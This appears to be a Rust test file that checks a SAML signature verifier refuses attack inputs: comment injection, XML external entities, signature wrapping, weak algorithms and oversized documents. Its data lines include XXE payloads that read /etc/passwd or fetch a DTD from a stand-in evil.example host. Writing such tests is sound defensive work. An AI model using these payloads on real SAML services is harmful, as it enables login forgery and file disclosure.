//! Attacks on parsers, on canonicalization, and on the parameters of a signature.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;

use crate::sign::{ENVELOPED, EXCLUSIVE, SHA256, Signing, element, insert, sign, wrap};
use crate::{ASSERTION, refused, replace, response, verify_now};

fn signed() -> String {
    sign(&response(ASSERTION), "_assertion")
}

/// The content of an element of the signature.
fn content<'x>(xml: &'x str, name: &str) -> &'x str {
    let (_, after) = xml.split_once(&format!("<ds:{name}>")).expect("a start");
    after
        .split_once(&format!("</ds:{name}>"))
        .expect("an end")
        .0
}

/// Checks the error without the byte offset that the parser's errors contain.
#[track_caller]
fn not_xml(xml: &str, problem: &str) {
    let error = verify_now(xml).expect_err("refused").to_string();
    let start = format!("the response is not acceptable XML: {problem} (byte ");
    assert!(error.starts_with(&start), "{error}");
}

#[test]
fn comments() {
    const PROBLEM: &str = "comments are not allowed";
    let xml = signed();
    // 2018: the text of a name ended at a comment, which the signature ignores.
    not_xml(
        &replace(
            &xml,
            "mara@docs.example",
            "mara@docs.example<!---->.evil.example",
        ),
        PROBLEM,
    );
    // 2025, xml-crypto: so did the digest.
    let digest = content(&xml, "DigestValue").to_owned();
    for commented in [
        format!("<!--{digest}-->AAAA"),
        format!("{digest}<!-- -->"),
        format!("AAAA<!-- -->{digest}"),
    ] {
        not_xml(&replace(&xml, &digest, &commented), PROBLEM);
    }
    not_xml(
        &format!("<!-- -->{xml}").replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", ""),
        PROBLEM,
    );
    not_xml(
        &replace(&xml, "<saml:Subject>", "<saml:Subject><!-- -->"),
        PROBLEM,
    );
}

#[test]
fn document_types_and_entities() {
    let body = signed();
    let (_, body) = body.split_once("?>").expect("a declaration");
    for subset in [
        r#"<!ENTITY a "mara">"#,
        r#"<!ENTITY a SYSTEM "file:///etc/passwd">"#,
        r#"<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;"#,
        r#"<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">"#,
        "<!ATTLIST samlp:Response ID ID #IMPLIED>",
        "",
    ] {
        let xml = format!("<!DOCTYPE samlp:Response [{subset}]>{body}");
        not_xml(&xml, "a document type is not allowed");
    }
    // 2025, ruby-saml: text that is a document type to one parser only.
    not_xml(
        &format!("<!DOCTYPE a SYSTEM \"x'\" [<!ENTITY b 'c'>]>{body}"),
        "a document type is not allowed",
    );
    let xml = signed();
    not_xml(
        &replace(&xml, "mara@", "&mara;@"),
        "a reference is not allowed",
    );
    for markup in ["<!ENTITY a 'b'>", "<!doctype a>", "<!>"] {
        let xml = replace(&xml, "<saml:Subject>", &format!("<saml:Subject>{markup}"));
        not_xml(&xml, "declarations are not allowed");
    }
    not_xml(
        &replace(&xml, "mara@docs", "mara<![CDATA[@]]>docs"),
        "CDATA sections are not allowed",
    );
    not_xml(
        &replace(&xml, "mara@docs", "mara<?x?>@docs"),
        "processing instructions are not allowed",
    );
}

#[test]
fn elements_and_attributes_are_those_of_their_namespaces() {
    let xml = signed();
    // 2025, ruby-saml: `Signature` in another namespace is none.
    refused(
        &replace(
            &xml,
            "http://www.w3.org/2000/09/xmldsig#\"",
            "http://www.w3.org/2000/09/xmldsig\"",
        ),
        "neither the response nor its assertion is signed",
    );
    not_xml(
        &replace(&xml, "<saml:Subject>", "<saml:Subject a='' a=''>"),
        "an element has an attribute twice",
    );
    not_xml(
        &replace(
            &xml,
            "<saml:Subject>",
            "<saml:Subject xmlns:a='urn:a' xmlns:b='urn:a' a:x='' b:x=''>",
        ),
        "an element has an attribute twice",
    );
    not_xml(
        &replace(
            &xml,
            "<saml:Subject>",
            "<saml:Subject xmlns:a='urn:a' xmlns:a='urn:b'>",
        ),
        "a prefix is declared twice",
    );
    not_xml(
        &replace(&xml, "<saml:Subject>", "<saml:Subject x:a=''>"),
        "a prefix is not declared",
    );
    // Go, 2020: names with several colons or none did not survive being written.
    for name in ["saml:a:b", ":a", "saml:", "saml::a", "xmlns:a"] {
        let xml = replace(&xml, "<saml:Subject>", &format!("<saml:Subject><{name}/>"));
        let error = verify_now(&xml).expect_err("refused").to_string();
        assert!(error.contains("is not acceptable XML"), "{error}");
    }
    // The default namespace is not that of attributes.
    let unqualified = replace(ASSERTION, r#" ID="_assertion""#, r#" saml:ID="_assertion""#);
    let signature = Signing::default().signature(&response(ASSERTION), "_assertion");
    let (start, end) = unqualified.split_once("</saml:Issuer>").expect("an issuer");
    refused(
        &response(&format!("{start}</saml:Issuer>{signature}{end}")),
        "the signature is not acceptable: its reference is `#_assertion`, not the element that contains the signature",
    );
}

#[test]
fn canonicalization_never_yields_nothing() {
    // 2025: relative namespaces made canonicalization fail, and its empty result was digested.
    let empty = BASE64_STANDARD.encode(ring::digest::digest(&ring::digest::SHA256, b""));
    for namespace in [
        "relative",
        "1",
        "./a",
        "#a",
        ":a",
        "urn:a&amp;b",
        "urn:a b",
        "urn:\u{e9}",
    ] {
        let unsigned = response(ASSERTION);
        let signed_info = Signing::default().signed_info(&unsigned, "_assertion");
        let digest = content(&signed_info, "DigestValue").to_owned();
        let signed_info = replace(&signed_info, &digest, &empty);
        let value = Signing::default().value(&signed_info);
        let xml = insert(&unsigned, "_assertion", &wrap(&signed_info, &value));
        refused(&xml, "the digest of the signed element is wrong");
        let xml = replace(
            &xml,
            "<saml:Subject>",
            &format!("<saml:Subject xmlns:a='{namespace}'>"),
        );
        not_xml(&xml, "a namespace declaration is not allowed");
    }
    // A canonical form that is too large is an error as well.
    let namespace = format!("urn:{}", "a".repeat(2000));
    let many = "<a:b/>".repeat(500);
    let large = replace(
        ASSERTION,
        "</saml:AttributeStatement>",
        &format!("<c xmlns:a='{namespace}'>{many}</c></saml:AttributeStatement>"),
    );
    let xml = replace(
        &signed(),
        ASSERTION.split_once("</saml:Issuer>").expect("an issuer").1,
        large.split_once("</saml:Issuer>").expect("an issuer").1,
    );
    refused(&xml, "the response is larger than 256 KiB");
}

/// Signs with changes to `SignedInfo` that the key signs, too.
#[track_caller]
fn check_signing(signing: &Signing, reason: &str) {
    let reason = format!("the signature is not acceptable: {reason}");
    refused(&signing.sign(&response(ASSERTION), "_assertion"), &reason);
    refused(&signing.sign(&response(ASSERTION), "_response"), &reason);
}

#[test]
fn weak_and_unknown_algorithms() {
    for algorithm in [
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
        "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha512",
        "http://www.w3.org/2007/05/xmldsig-more#rsa-pss",
        "HTTP://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "none",
        "",
    ] {
        let signing = Signing {
            algorithm,
            ..Signing::default()
        };
        check_signing(
            &signing,
            &format!("the signature algorithm `{algorithm}` is not accepted"),
        );
    }
    for digest in [
        "http://www.w3.org/2000/09/xmldsig#sha1",
        "http://www.w3.org/2001/04/xmldsig-more#md5",
        "none",
    ] {
        let signing = Signing {
            digest,
            ..Signing::default()
        };
        check_signing(&signing, &format!("the digest `{digest}` is not accepted"));
    }
    // An RSA signature is not accepted as one of ECDSA, or the other way.
    for (key, algorithm) in [("idp", "ecdsa-sha256"), ("p256", "rsa-sha256")] {
        let xml = Signing {
            key,
            ..Signing::default()
        }
        .sign(&response(ASSERTION), "_assertion");
        let xml = replace(&xml, "rsa-sha256", algorithm);
        refused(
            &xml,
            "the signature does not match any configured certificate",
        );
    }
}

#[test]
fn the_hmac_of_the_public_certificate() {
    let signing = Signing {
        algorithm: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        ..Signing::default()
    };
    let unsigned = response(ASSERTION);
    let signed_info = signing.signed_info(&unsigned, "_assertion");
    let pem = include_bytes!("keys/idp.crt");
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, pem);
    let value = BASE64_STANDARD.encode(ring::hmac::sign(&key, signed_info.as_bytes()));
    refused(
        &insert(&unsigned, "_assertion", &wrap(&signed_info, &value)),
        "the signature is not acceptable: the signature algorithm `http://www.w3.org/2001/04/xmldsig-more#hmac-sha256` is not accepted",
    );
}

#[test]
fn other_transforms_and_canonicalizations() {
    let enveloped = element("Transform", ENVELOPED, "");
    let exclusive = element("Transform", EXCLUSIVE, "");
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    let with_comments = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
    for (transforms, reason) in [
        (
            String::new(),
            "its `Transforms` has an unexpected structure".to_owned(),
        ),
        (
            exclusive.clone(),
            "its `Transforms` has an unexpected structure".to_owned(),
        ),
        (
            format!("{enveloped}{exclusive}{exclusive}"),
            "its `Transforms` has an unexpected structure".to_owned(),
        ),
        (
            format!("{exclusive}{enveloped}"),
            format!("the transform `{EXCLUSIVE}` is not accepted"),
        ),
        (
            format!("{enveloped}{enveloped}"),
            format!("the canonicalization `{ENVELOPED}` is not accepted"),
        ),
        (
            enveloped.clone() + &element("Transform", inclusive, ""),
            format!("the canonicalization `{inclusive}` is not accepted"),
        ),
        (
            enveloped.clone() + &element("Transform", with_comments, ""),
            format!("the canonicalization `{with_comments}` is not accepted"),
        ),
        (
            element(
                "Transform",
                "http://www.w3.org/TR/1999/REC-xslt-19991116",
                "",
            ) + &exclusive,
            "the transform `http://www.w3.org/TR/1999/REC-xslt-19991116` is not accepted"
                .to_owned(),
        ),
        (
            element(
                "Transform",
                "http://www.w3.org/TR/1999/REC-xpath-19991116",
                "<ds:XPath>true()</ds:XPath>",
            ) + &exclusive,
            "its `Transform` has an unexpected structure".to_owned(),
        ),
        (
            element("Transform", ENVELOPED, "text") + &exclusive,
            "its `Transform` has an unexpected structure".to_owned(),
        ),
    ] {
        check_signing(
            &Signing {
                transforms,
                ..Signing::default()
            },
            &reason,
        );
    }
    for canonicalization in [
        inclusive,
        with_comments,
        "http://www.w3.org/2006/12/xml-c14n11",
        "",
    ] {
        check_signing(
            &Signing {
                canonicalization: element("CanonicalizationMethod", canonicalization, ""),
                ..Signing::default()
            },
            &format!("the canonicalization `{canonicalization}` is not accepted"),
        );
    }
}

/// Signs `SignedInfo` after a change, so that only its structure can be refused.
#[track_caller]
fn check_signed_info(change: impl Fn(&str) -> String, reason: &str) {
    let unsigned = response(ASSERTION);
    let signed_info = change(&Signing::default().signed_info(&unsigned, "_assertion"));
    let value = Signing::default().value(&signed_info);
    refused(
        &insert(&unsigned, "_assertion", &wrap(&signed_info, &value)),
        &format!("the signature is not acceptable: {reason}"),
    );
}

#[test]
fn a_signature_has_one_reference_to_its_parent() {
    let element = |xml: &str| {
        let start = xml.find("<ds:Reference ").expect("a reference");
        let end = xml.find("</ds:SignedInfo>").expect("an end");
        xml[start..end].to_owned()
    };
    check_signed_info(
        |xml| {
            xml.replace(
                "</ds:SignedInfo>",
                &format!("{}</ds:SignedInfo>", element(xml)),
            )
        },
        "its `SignedInfo` has an unexpected structure",
    );
    check_signed_info(
        |xml| xml.replace(&element(xml), ""),
        "its `SignedInfo` has an unexpected structure",
    );
    for (uri, shown) in [
        ("", ""),
        ("#", "#"),
        ("#_response", "#_response"),
        ("_assertion", "_assertion"),
        (
            "#xpointer(id('_assertion'))",
            "#xpointer(id(\\'_assertion\\'))",
        ),
        ("#xpointer(/)", "#xpointer(/)"),
        (
            "https://evil.example/#_assertion",
            "https://evil.example/#_assertion",
        ),
        ("##_assertion", "##_assertion"),
        ("#_assertion ", "#_assertion "),
    ] {
        check_signed_info(
            |xml| replace(xml, "URI=\"#_assertion\"", &format!("URI=\"{uri}\"")),
            &format!("its reference is `{shown}`, not the element that contains the signature"),
        );
    }
    check_signed_info(
        |xml| replace(xml, " URI=\"#_assertion\"", ""),
        "its reference is ``, not the element that contains the signature",
    );
}

#[test]
fn a_digest_is_one_value() {
    // 2024, ruby-saml: a second digest where another search found it first.
    let twice = |xml: &str| {
        let digest = content(xml, "DigestValue");
        let value = format!("<ds:DigestValue>{digest}</ds:DigestValue>");
        replace(xml, &value, &format!("{value}{value}"))
    };
    check_signed_info(twice, "its `Reference` has an unexpected structure");
    check_signed_info(
        |xml| {
            replace(
                xml,
                "<ds:DigestValue>",
                "<ds:DigestValue><ds:DigestValue>AAAA</ds:DigestValue>",
            )
        },
        "its `DigestValue` has an unexpected structure",
    );
    check_signed_info(
        |xml| replace(xml, "<ds:DigestValue>", "<ds:DigestValue>*"),
        "its `DigestValue` is not base64",
    );
    check_signed_info(
        |xml| replace(xml, content(xml, "DigestValue"), "<ds:X></ds:X>"),
        "its `DigestValue` has an unexpected structure",
    );
    check_signed_info(
        |xml| replace(xml, r"<ds:Transforms>", "text<ds:Transforms>"),
        "its `Reference` has an unexpected structure",
    );
    let xml = signed();
    // Elsewhere, as in `samlp:Extensions`, it is ignored.
    let elsewhere = format!(
        r#"<samlp:Extensions><ds:DigestValue xmlns:ds="{}">AAAA</ds:DigestValue></samlp:Extensions><samlp:Status>"#,
        crate::sign::DS
    );
    let accepted = verify_now(&replace(&xml, "<samlp:Status>", &elsewhere));
    assert_eq!(accepted, verify_now(&xml));
    // A shorter digest is not a prefix of one.
    let unsigned = response(ASSERTION);
    let short = |signed_info: &str| {
        let digest = content(signed_info, "DigestValue");
        let bytes = BASE64_STANDARD.decode(digest).expect("base64");
        replace(signed_info, digest, &BASE64_STANDARD.encode(&bytes[..16]))
    };
    let signed_info = short(&Signing::default().signed_info(&unsigned, "_assertion"));
    let value = Signing::default().value(&signed_info);
    refused(
        &insert(&unsigned, "_assertion", &wrap(&signed_info, &value)),
        "the digest of the signed element is wrong",
    );
}

#[test]
fn a_signature_has_one_signed_info() {
    // 2025, xml-crypto: one was verified, and another one read.
    const REASON: &str =
        "the signature is not acceptable: its `Signature` has an unexpected structure";
    let unsigned = response(ASSERTION);
    let genuine = Signing::default().signed_info(&unsigned, "_assertion");
    let value = Signing::default().value(&genuine);
    let digest = content(&genuine, "DigestValue").to_owned();
    let forged = replace(&genuine, &digest, &BASE64_STANDARD.encode([0; 32]));
    for signed_info in [
        format!("{genuine}{forged}"),
        format!("{forged}{genuine}"),
        format!("<ds:Object>{forged}</ds:Object>{genuine}"),
        String::new(),
    ] {
        refused(
            &insert(&unsigned, "_assertion", &wrap(&signed_info, &value)),
            REASON,
        );
    }
    let xml = signed();
    let key_info = "<ds:KeyInfo><ds:KeyName>ignored</ds:KeyName></ds:KeyInfo>";
    for other in [
        "<ds:Object></ds:Object>".to_owned(),
        format!("{key_info}{key_info}"),
        format!("{key_info}{forged}"),
        format!("{key_info}text"),
    ] {
        refused(&replace(&xml, key_info, &other), REASON);
    }
    let accepted = verify_now(&replace(&xml, key_info, ""));
    assert_eq!(accepted, verify_now(&xml));
    // Changed after it was signed.
    refused(
        &replace(&xml, &digest, &BASE64_STANDARD.encode([0; 32])),
        "the signature does not match any configured certificate",
    );
    refused(
        &replace(&xml, "xmldsig-more#rsa-sha256", "xmldsig-more#rsa-sha512"),
        "the signature does not match any configured certificate",
    );
}

#[test]
fn parameters_of_algorithms() {
    let method = element(
        "SignatureMethod",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "",
    );
    let length = element(
        "SignatureMethod",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "<ds:HMACOutputLength>0</ds:HMACOutputLength>",
    );
    check_signed_info(
        |xml| replace(xml, &method, &length),
        "its `SignatureMethod` has an unexpected structure",
    );
    let digest = element("DigestMethod", SHA256, "");
    check_signed_info(
        |xml| {
            replace(
                xml,
                &digest,
                &element("DigestMethod", SHA256, "<ds:X></ds:X>"),
            )
        },
        "its `DigestMethod` has an unexpected structure",
    );
    let exclusive = element("Transform", EXCLUSIVE, "");
    let with = |content: &str| {
        let content = content.replace(
            "<ec:",
            &format!(r#"<ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE}""#),
        );
        element("Transform", EXCLUSIVE, &content)
    };
    for content in [
        r#"<ec: PrefixList="a"></ec:InclusiveNamespaces><ec: PrefixList="b"></ec:InclusiveNamespaces>"#,
        r#"<ec: PrefixList="a"></ec:InclusiveNamespaces>text"#,
        "<ds:X></ds:X>",
    ] {
        check_signed_info(
            |xml| replace(xml, &exclusive, &with(content)),
            "its `Transform` has an unexpected structure",
        );
    }
    check_signed_info(
        |xml| replace(xml, &exclusive, &with("<ec:></ec:InclusiveNamespaces>")),
        "its `InclusiveNamespaces` has an unexpected structure",
    );
    let many = format!(
        r#"<ec: PrefixList="{}"></ec:InclusiveNamespaces>"#,
        "a ".repeat(17)
    );
    check_signed_info(
        |xml| replace(xml, &exclusive, &with(&many)),
        "its `PrefixList` has more than 16 prefixes",
    );
}

#[test]
fn limits() {
    let deep = format!("{}{}", "<a>".repeat(40), "</a>".repeat(40));
    not_xml(&response(&deep), "elements are nested too deep");
    not_xml(
        &response(&"<a/>".repeat(9000)),
        "there are too many elements",
    );
    let mut wide = String::new();
    for letter in 'A'..='Z' {
        wide.extend([' ', letter, '=', '"', '"', ' ', letter, 'a', '=', '"', '"']);
    }
    not_xml(
        &response(&format!("<a{wide}/>")),
        "an element has too many attributes",
    );
    refused(
        &response(&" ".repeat(300_000)),
        "the response is larger than 256 KiB",
    );
    refused(
        &response(&" ".repeat(600_000)),
        "the response is larger than 256 KiB",
    );
}
